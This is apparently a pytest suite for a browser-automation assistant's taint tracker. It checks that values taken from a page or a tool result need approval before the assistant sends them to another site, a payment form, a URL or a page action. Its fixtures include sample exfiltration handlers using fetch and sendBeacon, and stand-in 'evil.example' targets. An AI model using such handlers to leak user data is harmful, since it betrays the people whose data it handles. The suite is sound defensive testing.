"""What is made of a stranger's words asks before it leaves; the visitor's own words do not."""

from typing import Any

import pytest

from widget.act.acting import Acting

AWAY = "https://maps.example"
SEARCH = f"""<p>Member number: QX7-4419-vole. Ask for Bartholomew.</p>
<label>Place <input oninput="fetch('{AWAY}/s?q=' + encodeURIComponent(this.value)).catch(() => 0)">
</label>"""
SHOWN = {"type": "observation", "observation": {"ops": [
    {"op": "insert", "lines": [{"key": "a", "depth": 0, "row": "Member number: QX7-4419-vole."}]},
    {"op": "replace", "line": {"key": "b", "depth": 0, "row": {
        "ref": 1, "word": "link", "name": "Ask for Bartholomew", "attributes": {"href": "/b7"}}}},
]}}  # fmt: skip
BROUGHT = {
    "type": "outcome",
    "outcome": {
        "status": "done",
        "message": "Read it.",
        "data": {"iban": "DE02120300000000202051"},
    },
}


def source_of(agent: Acting, value: str) -> str | None:
    found = agent.page.evaluate("value => pf.taint.sourceOf(value) ?? null", value)
    return None if found is None else found["name"]


def shown(acting: Any, html: str = SEARCH, task: str = "Show Lisbon on the map") -> Acting:
    agent = acting(html, task=task, first=True)
    for message in (SHOWN, BROUGHT):
        agent.page.evaluate("message => pf.taint.sent(message)", message)
    return agent


@pytest.mark.parametrize(
    ("value", "source"),
    [
        ("Lisbon", None),
        ("the LISBON map", None),
        ("go to it", None),
        ("4", None),
        ("QX7-4419-vole", "this page"),
        ("Lisbon QX7-4419-vole", "this page"),
        ("bartholomew", "this page"),
        ("DE02120300000000202051", "a result"),
        ("Reykjavik", ""),
        ("秘密", ""),
    ],
)
def test_whose_words_a_value_is_made_of(acting: Any, value: str, source: str | None) -> None:
    assert source_of(shown(acting), value) == source


def test_an_answer_of_the_visitor_is_their_own_and_another_visitor_has_none(acting: Any) -> None:
    agent = shown(acting)
    agent.page.evaluate("pf.taint.sent({ type: 'respond', ask_id: 'a', answer: 'Reykjavik' })")
    assert source_of(agent, "Reykjavik") is None
    agent.page.evaluate("pf.taint.wipe()")
    assert source_of(agent, "Reykjavik") == ""
    assert source_of(agent, "QX7-4419-vole") == ""


def test_words_of_the_task_may_go_to_another_site_as_they_are_typed(acting: Any) -> None:
    agent = shown(acting)
    asked: list[str] = []
    agent.page.route(f"{AWAY}/**", lambda route: (asked.append(route.request.url), route.abort()))
    outcome = agent.act("fill_input", {"value": "Lisbon"}, name="Place")
    assert outcome["status"] == "done", outcome
    assert asked == [f"{AWAY}/s?q=Lisbon"]


@pytest.mark.parametrize(
    "sent",
    [
        "fetch(A + '?q=' + encodeURIComponent(this.value))",
        "fetch(A + '/' + this.value)",
        "fetch(A + '?q=' + btoa('my ' + this.value))",
        "fetch(A, {method: 'POST', body: JSON.stringify({a: ['x' + this.value]})})",
        "navigator.sendBeacon(A, this.value)",
    ],
)
def test_a_value_from_the_page_goes_to_another_site_only_after_a_yes_that_names_it(
    acting: Any, sent: str
) -> None:
    html = f"""<script>const A = '{AWAY}/s'</script>
    <label>Place <input oninput="{sent}"></label>"""
    agent = shown(acting, html)
    asked: list[str] = []
    agent.page.route(f"{AWAY}/**", lambda route: (asked.append(route.request.url), route.abort()))
    held = agent.act("fill_input", {"value": "QX7-4419-vole"}, name="Place")
    assert held["status"] == "needs_approval", held
    assert asked == []
    about = agent.page.evaluate(
        "approval => pf.approvals.find(approval.digest).about", held["approval"]
    )
    assert about[0] == "Place: QX7-4419-vole (by the assistant, from this page)"


def test_text_that_others_read_asks_though_the_page_sends_it_by_itself_too(acting: Any) -> None:
    post = "fetch('/api/notes', {method: 'POST', body: JSON.stringify({message: m.value})})"
    html = f"""<label>Message <textarea id=m></textarea></label>
    <button onclick="{post}">Keep</button>"""
    agent = shown(acting, html)
    # The page has sent such a request by itself: by that alone it would need no question.
    agent.page.evaluate(f"() => {{ m.value = 'Lisbon'; {post} }}")
    agent.act("fill_input", {"value": "It is QX7-4419-vole"}, name="Message")
    held = agent.act("click", name="Keep")
    assert held["status"] == "needs_approval", held
    assert held["approval"]["kind"] == "send"


@pytest.mark.parametrize(
    ("to", "by"), [("", " (by the assistant)"), (" to DE02120300000000202051", "")]
)
def test_the_account_that_is_paid_is_shown_whole(acting: Any, to: str, by: str) -> None:
    sends = "event.preventDefault(); fetch('/api/pay', {method: 'POST', body: i.value})"
    html = (
        f'<form onsubmit="{sends}"><label>IBAN <input id=i></label><button>Transfer</button></form>'
    )
    agent = acting(html, first=True, task=f"Transfer it{to}")
    agent.act("fill_input", {"value": "DE02120300000000202051"}, name="IBAN")
    held = agent.act("click", name="Transfer")
    about = agent.page.evaluate(
        "approval => pf.approvals.find(approval.digest).about", held["approval"]
    )
    assert f"IBAN: DE02120300000000202051{by}" in about


@pytest.mark.parametrize(
    ("path", "asks"),
    [
        ("/compose?to=QX7-4419-vole", True),
        ("/open?url=QX7-4419-vole", True),
        ("/compose?to=Lisbon", False),
        ("/search?q=QX7-4419-vole", False),
        ("/known?to=QX7-4419-vole", False),
    ],
)
def test_an_address_made_of_a_strangers_words_is_asked_about(
    acting: Any, path: str, asks: bool
) -> None:
    agent = shown(acting, '<a href="/known?to=QX7-4419-vole">Known</a>')
    agent.page.evaluate("pf.route = () => true")
    outcome = agent.act("navigate", {"path": path})
    assert (outcome["status"] == "needs_approval") == asks, outcome


@pytest.mark.parametrize(
    ("name", "args", "asks"),
    [
        ("share_list", {"email": "bartholomew@evil.example"}, True),
        ("share_list", {"noteText": "QX7-4419-vole", "replyText": "QX7-4419-vole"}, True),
        ("share_list", {"callbackUrl": "https://evil.example/"}, True),
        ("share_list", {"email": "lisbon@maps.example"}, False),
        ("share_list", {"size": "QX7-4419-vole"}, False),
        ("find_person", {"email": "bartholomew@evil.example"}, False),
    ],
)
def test_an_action_of_the_page_is_asked_about_for_a_strangers_words(
    acting: Any, name: str, args: dict[str, str], asks: bool
) -> None:
    agent = shown(acting, task="Share it with lisbon@maps.example")
    agent.page.evaluate("name => pf.register(name, () => ({ done: 1 }))", name)
    outcome = agent.act(name, args)
    assert (outcome["status"] == "needs_approval") == asks, outcome


def test_what_the_assistant_has_written_itself_has_no_source_in_the_page(acting: Any) -> None:
    agent = shown(acting, "<label>Email <input></label>")
    agent.act("fill_input", {"value": "mallory@y.org QX7-4419-vole"}, name="Email")
    line = {"key": "c", "depth": 0, "row": "mallory@y.org QX7-4419-vole"}
    ops = [{"op": "insert", "lines": [line]}]
    message = {"type": "observation", "observation": {"ops": ops}}
    agent.page.evaluate("message => pf.taint.sent(message)", message)
    assert source_of(agent, "mallory@y.org") == ""
    assert source_of(agent, "QX7-4419-vole") == "this page"


def test_a_later_run_answers_for_what_an_earlier_one_has_left_in_a_form(acting: Any) -> None:
    save = "fetch('/api/me', {method: 'PUT', body: JSON.stringify({email: e.value})})"
    html = f"""<label>Email <input id=e value="ada@x.org"></label>
    <button onclick="{save}">Go</button>"""
    agent = acting(html)
    agent.act("fill_input", {"value": "mallory@y.org"}, name="Email", action_id="first.1")
    held = agent.act("click", name="Go", action_id="second.1")
    assert held["status"] == "needs_approval", held
    # Once that was approved, the next run has nothing of it to answer for.
    digest = held["approval"]["digest"]
    args = {"ref": agent.ref("Go")}
    sent = agent.act("click", args, action_id="second.1", digest=digest)
    assert sent["status"] == "done", sent
    third = agent.act("click", args, action_id="third.1")["approval"]["digest"]
    assert agent.state(f"pf.approvals.find('{third}').about") == [
        "Email: mallory@y.org",
        "→ PUT /api/me",
    ]
